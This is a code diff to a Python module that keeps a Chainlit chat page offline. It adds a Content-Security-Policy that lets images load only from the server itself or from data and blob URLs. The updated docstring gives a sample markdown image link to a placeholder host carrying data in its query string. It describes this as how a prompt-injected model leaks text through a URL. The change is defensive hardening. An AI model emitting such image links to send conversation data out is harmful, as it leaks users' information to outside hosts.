@@ -1,7 +1,11 @@
 """Keep the page offline: Chainlit's index.html links Google Fonts and a KaTeX stylesheet on a CDN.
 
 The page works without them (system fonts; LaTeX is off), so the links are removed from the HTML the
-server sends; nothing else in the page reaches outside this server (the end-to-end test checks it).
+server sends. Messages are markdown, and markdown images load from wherever they point: a message or
+an answer holding ``![x](https://host/pixel.png?data=...)`` made the browser fetch it (the usual way a
+prompt-injected model leaks text through a URL). Every response therefore carries a
+Content-Security-Policy that lets images come only from this server and data/blob URLs; nothing
+else in the page reaches outside this server (the end-to-end test checks it).
 """
 
 from __future__ import annotations
@@ -18,8 +22,22 @@ def strip_external_assets(html: str) -> str:
     return _EXTERNAL_SCRIPT.sub("", _EXTERNAL_LINK.sub("", html))
 
 
+IMAGE_POLICY = "img-src 'self' data: blob:"
+
+
+def add_image_policy(app) -> None:
+    """Send ``IMAGE_POLICY`` as the Content-Security-Policy of every response of ``app``."""
+
+    @app.middleware("http")
+    async def image_policy(request, call_next):
+        response = await call_next(request)
+        response.headers.setdefault("Content-Security-Policy", IMAGE_POLICY)
+        return response
+
+
 def install() -> bool:
-    """Wrap Chainlit's index.html renderer; False if this Chainlit version has no such function."""
+    """Wrap Chainlit's index.html renderer and add the image policy; False if this Chainlit version
+    has no such function."""
     try:
         import chainlit.server as server
     except ImportError:  # pragma: no cover - chainlit is a dependency
@@ -33,4 +51,5 @@ def install() -> bool:
 
     get_html_template._adapterlab_offline = True
     server.get_html_template = get_html_template
+    add_image_policy(server.app)
     return True
